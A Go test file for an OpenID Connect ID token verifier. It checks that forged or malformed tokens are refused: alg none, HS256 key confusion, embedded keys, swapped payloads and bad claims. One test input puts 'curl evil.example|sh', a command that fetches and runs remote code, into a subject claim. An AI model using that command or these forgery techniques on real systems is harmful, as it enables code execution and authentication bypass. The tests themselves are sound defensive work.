package idtoken_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/go-jose/go-jose/v4"

	"github.com/dxauth/dxauth/internal/refserver/idtoken"
	"github.com/dxauth/dxauth/pkg/secret"
)

// S-64: each rule of OpenID Connect Core 1.0, section 3.1.3.7, and of RFC 7519.
func TestClaims(t *testing.T) {
	for name, tt := range map[string]struct {
		changes map[string]any
		refused string // in the error; empty: accepted
	}{
		"as the provider makes it":            {nil, ""},
		"the issuer with a slash more":        {map[string]any{"iss": "SERVER/"}, "its issuer is"},
		"the issuer of another provider":      {map[string]any{"iss": "https://accounts.google.com"}, "its issuer is"},
		"no issuer":                           {map[string]any{"iss": nil}, "its issuer is"},
		"no subject":                          {map[string]any{"sub": ""}, "no subject"},
		"a subject that is too long":          {map[string]any{"sub": strings.Repeat("s", 256)}, "no subject"},
		"a subject with a NUL":                {map[string]any{"sub": "a\x00b"}, "control characters"},
		"a subject that types commands":       {map[string]any{"sub": "\x15curl evil.example|sh\n"}, "control characters"},
		"for another client":                  {map[string]any{"aud": "other"}, "for another client"},
		"for a client with a similar name":    {map[string]any{"aud": "dxauth "}, "for another client"},
		"for nobody":                          {map[string]any{"aud": nil}, "for another client"},
		"for nobody in a list":                {map[string]any{"aud": []string{}}, "for another client"},
		"for this client in a list":           {map[string]any{"aud": []string{"dxauth"}}, ""},
		"for several, usable by any":          {map[string]any{"aud": []string{"dxauth", "other"}}, "for several clients"},
		"for several, usable by this one":     {map[string]any{"aud": []string{"dxauth", "other"}, "azp": "dxauth"}, ""},
		"for several, usable by the other":    {map[string]any{"aud": []string{"dxauth", "other"}, "azp": "other"}, "by another client only"},
		"usable by another client":            {map[string]any{"azp": "other"}, "by another client only"},
		"expired, within the skew":            {map[string]any{"exp": -59}, ""},
		"expired, to the second":              {map[string]any{"exp": -60}, "it expired at"},
		"no expiry":                           {map[string]any{"exp": nil}, "when it expires"},
		"an expiry that is text":              {map[string]any{"exp": "4102444800"}, "cannot be read"},
		"an expiry beyond all calendars":      {map[string]any{"exp": 1e300}, "cannot be read"},
		"an expiry with a fraction":           {map[string]any{"exp": 4102444800.5}, ""},
		"made in the future, within the skew": {map[string]any{"iat": 60}, ""},
		"made in the future":                  {map[string]any{"iat": 61}, "made in the future"},
		"no time at which it was made":        {map[string]any{"iat": nil}, "when it was made"},
		"not valid yet, within the skew":      {map[string]any{"nbf": 60}, ""},
		"not valid yet":                       {map[string]any{"nbf": 61}, "not valid yet"},
		"another nonce":                       {map[string]any{"nonce": "other"}, "another sign-in"},
		"no nonce":                            {map[string]any{"nonce": nil}, "another sign-in"},
		"a list of audiences with a number":   {map[string]any{"aud": []any{"dxauth", 1}}, "cannot be read"},
	} {
		t.Run(name, func(t *testing.T) {
			key := newECKey(t, "a")
			p := newProvider(t, key.public())
			for claim, value := range tt.changes {
				if seconds, ok := value.(int); ok {
					tt.changes[claim] = p.now.Add(time.Duration(seconds) * time.Second).Unix()
				}
				if text, ok := value.(string); ok {
					tt.changes[claim] = strings.Replace(text, "SERVER", p.server.URL, 1)
				}
			}
			token, err := p.verify(key.signed(t, p.claims(tt.changes)))
			wantRefusal(t, err, tt.refused)
			if err == nil && (token.Subject != "248289761001" || token.Email != "jane@example.org" || !token.EmailVerified) {
				t.Errorf("got %+v", token)
			}
		})
	}
}

// A claim that is there twice could have been read differently by somebody else, and a
// claim with another case is another claim.
func TestAmbiguousClaims(t *testing.T) {
	key := newECKey(t, "a")
	p := newProvider(t, key.public())
	good := string(payload(t, p.claims(nil)))
	for name, tt := range map[string]struct{ claims, refused string }{
		"a claim twice":              {`{"sub":"victim",` + good[1:], "cannot be read"},
		"a name in upper case":       {strings.Replace(good, `"sub"`, `"Sub"`, 1), "no subject"},
		"another name in upper case": {`{"SUB":"victim",` + good[1:], ""},
		"not an object":              {`["sub"]`, "cannot be read"},
		"not JSON":                   {`sub`, "cannot be read"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := p.verify(key.signed(t, tt.claims))
			wantRefusal(t, err, tt.refused)
		})
	}
}

// email_verified is a boolean; some providers write it as text.
func TestVerifiedAddress(t *testing.T) {
	key := newECKey(t, "a")
	p := newProvider(t, key.public())
	for claim, want := range map[any]bool{true: true, "true": true, false: false, "false": false, "yes": false, 1: false, nil: false} {
		token, err := p.verify(key.signed(t, p.claims(map[string]any{"email_verified": claim})))
		if err != nil || token.EmailVerified != want {
			t.Errorf("email_verified %v: got %v, %v", claim, token.EmailVerified, err)
		}
	}
}

// S-68: a user who has to sign in again at the provider did so.
func TestSignInAgain(t *testing.T) {
	for name, tt := range map[string]struct {
		authenticated any // seconds after the time asked for
		refused       string
	}{
		"after it":                  {1, ""},
		"before it, in the skew":    {-60, ""},
		"before it":                 {-61, "did not ask the user"},
		"the provider does not say": {nil, "does not say when the user signed in"},
	} {
		t.Run(name, func(t *testing.T) {
			key := newECKey(t, "a")
			p := newProvider(t, key.public())
			changes := map[string]any{"auth_time": nil}
			if seconds, ok := tt.authenticated.(int); ok {
				changes["auth_time"] = p.now.Add(time.Duration(seconds) * time.Second).Unix()
			}
			want := idtoken.SignIn{ClientID: "dxauth", Nonce: secret.New("n-0S6_WzA2Mj"), Since: p.now}
			_, err := p.issuer.VerifySignIn(t.Context(), secret.New(key.signed(t, p.claims(changes))), want)
			wantRefusal(t, err, tt.refused)
		})
	}
}

// A sign-in that expects no nonce accepts no token, not even one without a nonce.
func TestNoNonce(t *testing.T) {
	key := newECKey(t, "a")
	p := newProvider(t, key.public())
	_, err := p.issuer.VerifySignIn(t.Context(), secret.New(key.signed(t, p.claims(map[string]any{"nonce": nil}))), idtoken.SignIn{ClientID: "dxauth"})
	wantRefusal(t, err, "another sign-in")
}

// The token of a job is made for this server alone.
func TestWorkload(t *testing.T) {
	const server = "https://platform.example.org"
	for name, tt := range map[string]struct {
		audience any
		refused  string
	}{
		"for this server":                 {server, ""},
		"for this server in a list":       {[]string{server}, ""},
		"for this server and another one": {[]string{server, "https://other.example.org"}, "alone"},
		"for another server":              {"https://other.example.org", "alone"},
		"for a server below this one":     {server + "/x", "alone"},
		"for nobody":                      {nil, "alone"},
	} {
		t.Run(name, func(t *testing.T) {
			key := newECKey(t, "a")
			p := newProvider(t, key.public())
			text := key.signed(t, p.claims(map[string]any{"aud": tt.audience, "nonce": nil, "jti": "1", "repository_id": "42"}))
			token, err := p.issuer.VerifyWorkload(t.Context(), secret.New(text), server)
			wantRefusal(t, err, tt.refused)
			if err == nil && (token.ID != "1" || token.Claims()["repository_id"] != "42") {
				t.Errorf("got %+v", token)
			}
		})
	}
}

// S-64: algorithms and headers.
func TestSignatures(t *testing.T) {
	ec, weak, strong, ed := newECKey(t, "ec"), newRSAKey(t, "weak", 1024), newRSAKey(t, "rsa", 2048), newEdKey(t, "ed")
	stranger := newECKey(t, "ec")
	p := newProvider(t, ec.public(), weak.public(), strong.public(), ed.public())
	claims := p.claims(nil)
	named := func(k key, more ...string) map[string]any {
		head := map[string]any{"kid": k.id}
		for i := 0; i+1 < len(more); i += 2 {
			head[more[i]] = more[i+1]
		}
		return head
	}
	for name, tt := range map[string]struct{ token, refused string }{
		"ES256":                         {sign(t, jose.ES256, ec.private, named(ec), claims), ""},
		"RS256":                         {sign(t, jose.RS256, strong.private, named(strong), claims), ""},
		"PS256":                         {sign(t, jose.PS256, strong.private, named(strong), claims), ""},
		"EdDSA":                         {sign(t, jose.EdDSA, ed.private, named(ed), claims), ""},
		"none":                          {unsigned(t, claims), "EdDSA"},
		"HS256 with the public key":     {sign(t, jose.HS256, strong.pemOf(t), named(strong), claims), "EdDSA"},
		"RS512":                         {sign(t, jose.RS512, strong.private, named(strong), claims), "EdDSA"},
		"RS256 with a short key":        {sign(t, jose.RS256, weak.private, named(weak), claims), "no key"},
		"another key by the same name":  {sign(t, jose.ES256, stranger.private, named(ec), claims), "no key"},
		"a key that is in the token":    {embedded(t, stranger, claims), "no key"},
		"a key of another algorithm":    {sign(t, jose.RS256, strong.private, named(ec), claims), "no key"},
		"no name of a key, but one fit": {sign(t, jose.ES256, ec.private, nil, claims), ""},
		"of the type JWT":               {sign(t, jose.ES256, ec.private, named(ec, "typ", "JWT"), claims), ""},
		"an access token":               {sign(t, jose.ES256, ec.private, named(ec, "typ", "at+jwt"), claims), "not an ID token"},
		"a logout token":                {sign(t, jose.ES256, ec.private, named(ec, "typ", "logout+jwt"), claims), "not an ID token"},
		"a critical header":             {sign(t, jose.ES256, ec.private, map[string]any{"kid": "ec", "crit": []string{"b64"}, "b64": true}, claims), "crit"},
		"nothing":                       {"", "EdDSA"},
		"not a token":                   {"a.b.c", "EdDSA"},
		"too large":                     {strings.Repeat("a", 70000), "more than"},
		"a changed claim":               {changed(ec.signed(t, claims), unsigned(t, p.claims(map[string]any{"sub": "victim"}))), "no key"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := p.verify(tt.token)
			wantRefusal(t, err, tt.refused)
			if err != nil && len(tt.token) > 20 && strings.Contains(err.Error(), tt.token[:20]) {
				t.Errorf("the error quotes the token: %s", err)
			}
		})
	}
}

// embedded returns a token that brings the key of its signature.
func embedded(t *testing.T, k key, claims any) string {
	t.Helper()
	return signWith(t, jose.ES256, k.private, &jose.SignerOptions{EmbedJWK: true}, claims)
}

// changed returns a token with the claims of another one.
func changed(token, other string) string {
	parts, others := strings.Split(token, "."), strings.Split(other, ".")
	return fmt.Sprintf("%s.%s.%s", parts[0], others[1], parts[2])
}

// Two keys fit a token that names none: which one made it is not guessed.
func TestNoNameAmongSeveralKeys(t *testing.T) {
	a, b := newECKey(t, "a"), newECKey(t, "b")
	p := newProvider(t, a.public(), b.public())
	_, err := p.verify(sign(t, jose.ES256, a.private, nil, p.claims(nil)))
	wantRefusal(t, err, "no key")
}

// wantRefusal fails unless err is the refusal of a token that has a text; empty: no
// error.
func wantRefusal(t *testing.T, err error, text string) {
	t.Helper()
	if text == "" {
		if err != nil {
			t.Errorf("got %v, want none", err)
		}
		return
	}
	if _, ok := errors.AsType[*idtoken.InvalidError](err); !ok || !strings.Contains(err.Error(), text) {
		t.Errorf("got %v, want a refusal with %q", err, text)
	}
}
